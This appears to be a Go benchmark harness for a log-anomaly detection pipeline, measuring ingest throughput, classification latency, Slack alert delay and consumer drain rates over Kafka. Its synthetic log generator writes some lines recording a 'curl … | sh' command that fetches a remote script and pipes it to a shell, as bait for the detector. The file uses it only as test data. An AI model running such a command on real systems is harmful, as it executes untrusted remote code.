package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sync/errgroup"
	"google.golang.org/protobuf/proto"

	"github.com/logwarden/logwarden/e2e"
	"github.com/logwarden/logwarden/pkg/kafkax"
	"github.com/logwarden/logwarden/pkg/logwardenpb"
)

type bench struct {
	o      options
	cfg    kafkax.Config
	admin  *kafkax.Admin
	bins   map[string]string
	work   string
	stderr io.Writer
	seq    int
}

func (b *bench) name(prefix string) string {
	b.seq++
	return fmt.Sprintf("bench-%s-%d-%d", prefix, time.Now().UnixNano()%1e9, b.seq)
}

func (b *bench) start(name, bin string, env ...string) (*e2e.Proc, error) {
	base := []string{"KAFKA_BROKERS=" + strings.Join(b.cfg.Brokers, ","), "LOG_FORMAT=json", "LOG_LEVEL=warn", "TOPIC_PARTITIONS=6"}
	return e2e.Start(e2e.ProcSpec{Name: name, Bin: bin, Args: []string{"run"}, Env: append(base, env...), Dir: b.work})
}

func stopAll(ps ...*e2e.Proc) {
	for _, p := range ps {
		if p != nil {
			_ = p.Stop(20 * time.Second)
		}
	}
}

// dist is a latency distribution.
type dist struct {
	n             int
	p50, p95, p99 time.Duration
}

func newDist(d []time.Duration) dist {
	if len(d) == 0 {
		return dist{}
	}
	sort.Slice(d, func(i, j int) bool { return d[i] < d[j] })
	q := func(p float64) time.Duration { return d[min(len(d)-1, int(p*float64(len(d))))] }
	return dist{n: len(d), p50: q(0.50), p95: q(0.95), p99: q(0.99)}
}

func (d dist) String() string {
	if d.n == 0 {
		return "–"
	}
	r := func(x time.Duration) string { return x.Round(100 * time.Microsecond).String() }
	return r(d.p50) + " / " + r(d.p95) + " / " + r(d.p99)
}

type step struct {
	offered              int
	accepted, classified float64
	verdict, slack       dist
	load                 float64 // one-minute load average when the step started
}

// tokenRE finds the sequence token the bench writes into every line.
var tokenRE = regexp.MustCompile(`lwb-(\d+)`)

// sentLog records when each sequence number was sent.
type sentLog struct {
	mu   sync.Mutex
	at   map[int]time.Time
	step map[int]int
}

// isAlarm says which sequence numbers are sent as a dangerous command (1 in 100), each
// by its own user so that every one is its own alert group.
func isAlarm(seq int) bool { return seq%100 == 50 }

func (s *sentLog) get(seq int) (time.Time, int, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	t, ok := s.at[seq]
	return t, s.step[seq], ok
}

func freeAddr() (string, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", err
	}
	defer l.Close()
	return l.Addr().String(), nil
}

// rising offers HTTP ingest load at each rate for one step and measures the pipeline.
func (b *bench) rising(ctx context.Context) ([]step, error) {
	raw, verdicts, alerts := b.name("raw"), b.name("verdicts"), b.name("alerts")
	// The readers below need the topics before the services would create them.
	if err := b.topics(ctx, raw, verdicts, alerts); err != nil {
		return nil, err
	}
	slack := e2e.NewFakeSlack()
	defer slack.Close()
	addr, err := freeAddr() // the producer's ingest API
	if err != nil {
		return nil, err
	}
	ops, err := freeAddr() // its /readyz and /metrics
	if err != nil {
		return nil, err
	}
	notifier, err := b.start("slack-notifier", b.bins["slack-notifier"], "ALERTS_TOPIC="+alerts, "GROUP_ID="+b.name("notifier"),
		"SLACK_WEBHOOK_URL="+slack.URL(), "SLACK_RATE_PER_SECOND=1000", "GROUP_WAIT=0s", "HTTP_ADDR=127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	classifier, err := b.start("anomaly-classifier", b.bins["anomaly-classifier"], "INPUT_TOPIC="+raw, "VERDICTS_TOPIC="+verdicts,
		"ALERTS_TOPIC="+alerts, "GROUP_ID="+b.name("classifier"), "HTTP_ADDR=127.0.0.1:0")
	if err != nil {
		stopAll(notifier)
		return nil, err
	}
	producer, err := b.start("log-producer", b.bins["log-producer"], "SOURCES=http", "TOPIC="+raw, "INGEST_ADDR="+addr, "HTTP_ADDR="+ops)
	if err != nil {
		stopAll(notifier, classifier)
		return nil, err
	}
	defer stopAll(producer, classifier, notifier)

	sent := &sentLog{at: map[int]time.Time{}, step: map[int]int{}}
	var mu sync.Mutex
	verdictLat := map[int][]time.Duration{}
	verdictCount := map[int]int{} // step → verdicts produced inside the step's window
	var windows []struct{ from, to time.Time }
	seen := map[int]bool{}

	rctx, stopRead := context.WithCancel(ctx)
	defer stopRead()
	var readers errgroup.Group
	readers.Go(func() error {
		_, err := kafkax.ReadTopicUntil(rctx, b.cfg, verdicts, func(m kafkax.Message) bool {
			var v logwardenpb.Verdict
			if proto.Unmarshal(m.Value, &v) != nil {
				return false
			}
			sm := tokenRE.FindStringSubmatch(v.GetEvent().GetRaw())
			if sm == nil {
				return false
			}
			seq, _ := strconv.Atoi(sm[1])
			at, st, ok := sent.get(seq)
			pt, okp := m.ProducedAt()
			mu.Lock()
			defer mu.Unlock()
			if !ok || !okp || seen[seq] {
				return false
			}
			seen[seq] = true
			verdictLat[st] = append(verdictLat[st], pt.Sub(at))
			for i, w := range windows {
				if !pt.Before(w.from) && pt.Before(w.to) {
					verdictCount[i]++
				}
			}
			return false
		})
		if rctx.Err() != nil {
			return nil
		}
		return err
	})

	client := &http.Client{Timeout: 30 * time.Second}
	url := "http://" + addr + "/v1/logs"
	if err := waitReady(ctx, client, "http://"+ops+"/readyz", 60*time.Second); err != nil {
		return nil, fmt.Errorf("producer: %w\n%s", err, producer.Tail(20))
	}
	// Warm up: one line through to its verdict, so the classifier has joined its group.
	seq := 0
	post := func(st int, lines []int) (int, error) {
		var body bytes.Buffer
		now := time.Now().UTC()
		ts := now.Format("02/Jan/2006 15:04:05")
		sent.mu.Lock()
		for _, s := range lines {
			if isAlarm(s) {
				fmt.Fprintf(&body, "[%s] 198.51.100.%d lwbad%d executed command 'curl -s http://203.0.113.9/lwb-%d.sh | sh'\n", ts, s%250+1, s, s)
			} else {
				// Normal traffic: directory listings (a distinct directory per line carries the
				// token without looking like mass file access to the rules).
				fmt.Fprintf(&body, "[%s] 10.20.%d.%d benchuser%02d accessed directory '/srv/share/lwb-%d'\n", ts, s%7, s%200+1, s%50, s)
			}
			sent.at[s] = now
			sent.step[s] = st
		}
		sent.mu.Unlock()
		resp, err := client.Post(url, "text/plain", &body)
		if err != nil {
			return 0, err
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusAccepted {
			return 0, fmt.Errorf("ingest answered %s", resp.Status)
		}
		return len(lines), nil
	}
	if _, err := post(-1, []int{seq}); err != nil {
		return nil, err
	}
	if err := waitFor(ctx, 60*time.Second, func() bool { mu.Lock(); defer mu.Unlock(); return seen[0] }); err != nil {
		return nil, fmt.Errorf("no verdict for the warm-up line: %w\n%s", err, classifier.Tail(20))
	}
	seq++

	var steps []step
	for i, rate := range b.o.rates {
		fmt.Fprintf(b.stderr, "step %d: %d events/s for %s…\n", i+1, rate, b.o.step)
		const tick = 20 * time.Millisecond
		per := max(1, rate*int(tick)/int(time.Second))
		load := e2e.LoadAverage()
		from := time.Now()
		mu.Lock()
		windows = append(windows, struct{ from, to time.Time }{from, from.Add(b.o.step)})
		mu.Unlock()
		batches := make(chan []int, 64)
		var accepted int
		var amu sync.Mutex
		var senders errgroup.Group
		for w := 0; w < 4; w++ {
			senders.Go(func() error {
				for lines := range batches {
					n, err := post(i, lines)
					if err != nil {
						return err
					}
					amu.Lock()
					accepted += n
					amu.Unlock()
				}
				return nil
			})
		}
		t := time.NewTicker(tick)
		end := time.After(b.o.step)
	offer:
		for {
			select {
			case <-ctx.Done():
				break offer
			case <-end:
				break offer
			case <-t.C:
				lines := make([]int, per)
				for k := range lines {
					lines[k] = seq
					seq++
				}
				select {
				case batches <- lines:
				default: // the senders are behind: this batch is not offered
				}
			}
		}
		t.Stop()
		close(batches)
		if err := senders.Wait(); err != nil {
			return nil, fmt.Errorf("step %d: %w", i+1, err)
		}
		// Let the step's last events through before the next one starts.
		time.Sleep(3 * time.Second)
		mu.Lock()
		st := step{offered: rate, load: load, accepted: float64(accepted) / b.o.step.Seconds(),
			classified: float64(verdictCount[i]) / b.o.step.Seconds(), verdict: newDist(append([]time.Duration(nil), verdictLat[i]...))}
		mu.Unlock()
		st.slack = slackLatency(slack.Delivered(), sent, i)
		steps = append(steps, st)
		fmt.Fprintf(b.stderr, "  accepted %.0f/s, classified %.0f/s, verdict %s, slack %s\n", st.accepted, st.classified, st.verdict, st.slack)
		if st.accepted < 0.7*float64(rate) || st.verdict.p99 > 10*time.Second {
			fmt.Fprintln(b.stderr, "  saturated: stopping the rise")
			break
		}
	}
	stopRead()
	_ = readers.Wait()
	return steps, nil
}

// slackLatency is, for the alert lines of step st, the delay from their POST to the first
// Slack POST that shows them.
func slackLatency(posts []e2e.Post, sent *sentLog, st int) dist {
	first := map[int]time.Time{}
	for _, p := range posts {
		for _, sm := range tokenRE.FindAllSubmatch(p.Body, -1) {
			seq, _ := strconv.Atoi(string(sm[1]))
			if _, ok := first[seq]; !ok {
				first[seq] = p.At
			}
		}
	}
	var d []time.Duration
	for seq, at := range first {
		if t, s, ok := sent.get(seq); ok && s == st && isAlarm(seq) {
			d = append(d, at.Sub(t))
		}
	}
	return newDist(d)
}

type drainResult struct {
	replicas int
	rate     float64
	seconds  float64
}

// drain pre-fills a topic and measures how fast 1, 2, 3… classifiers in one group
// consume it.
func (b *bench) drain(ctx context.Context) ([]drainResult, error) {
	raw := b.name("drain-raw")
	if err := b.topics(ctx, raw); err != nil {
		return nil, err
	}
	fmt.Fprintf(b.stderr, "pre-filling %s with %d generated events…\n", raw, b.o.drainEvents)
	p, err := b.start("log-producer-fill", b.bins["log-producer"], "SOURCES=generator", "GENERATOR_RATE=0",
		"GENERATOR_COUNT="+strconv.Itoa(b.o.drainEvents), "GENERATOR_SEED=7", "TOPIC="+raw, "HTTP_ADDR=127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	select {
	case <-p.Done():
		if err := p.Err(); err != nil {
			return nil, fmt.Errorf("pre-fill: %w\n%s", err, p.Tail(20))
		}
	case <-ctx.Done():
		p.Kill()
		return nil, ctx.Err()
	}
	var out []drainResult
	for _, k := range b.o.replicas {
		group := b.name("drain-group")
		env := []string{"INPUT_TOPIC=" + raw, "VERDICTS_TOPIC=" + b.name("drain-verdicts"), "ALERTS_TOPIC=" + b.name("drain-alerts"),
			"GROUP_ID=" + group, "HTTP_ADDR=127.0.0.1:0"}
		var procs []*e2e.Proc
		for r := 0; r < k; r++ {
			c, err := b.start(fmt.Sprintf("anomaly-classifier-drain%d-%d", k, r+1), b.bins["anomaly-classifier"], env...)
			if err != nil {
				stopAll(procs...)
				return nil, err
			}
			procs = append(procs, c)
		}
		var first time.Time
		var firstN int64
		total := int64(b.o.drainEvents)
		err := waitFor(ctx, 10*time.Minute, func() bool {
			offs, err := b.admin.CommittedOffsets(ctx, group, raw)
			if err != nil {
				return false
			}
			var n int64
			for _, o := range offs {
				if o > 0 {
					n += o
				}
			}
			if n > 0 && first.IsZero() {
				first, firstN = time.Now(), n
			}
			return n >= total
		})
		secs := time.Since(first).Seconds()
		stopAll(procs...)
		if err != nil {
			return nil, fmt.Errorf("%d replicas did not drain the topic: %w", k, err)
		}
		r := drainResult{replicas: k, seconds: secs, rate: float64(total-firstN) / secs}
		fmt.Fprintf(b.stderr, "%d replica(s): %.0f events/s\n", k, r.rate)
		out = append(out, r)
	}
	return out, nil
}

// topics creates the named topics with 6 partitions, like the services would.
func (b *bench) topics(ctx context.Context, names ...string) error {
	specs := make([]kafkax.TopicSpec, len(names))
	for i, n := range names {
		specs[i] = kafkax.TopicSpec{Name: n, Partitions: 6, ReplicationFactor: 1}
	}
	if err := b.admin.EnsureTopics(ctx, specs...); err != nil {
		return fmt.Errorf("create topics: %w", err)
	}
	return nil
}

func waitReady(ctx context.Context, c *http.Client, url string, timeout time.Duration) error {
	return waitFor(ctx, timeout, func() bool {
		resp, err := c.Get(url)
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})
}

func waitFor(ctx context.Context, timeout time.Duration, cond func() bool) error {
	deadline := time.Now().Add(timeout)
	for !cond() {
		if time.Now().After(deadline) {
			return fmt.Errorf("not within %s", timeout)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(200 * time.Millisecond):
		}
	}
	return nil
}
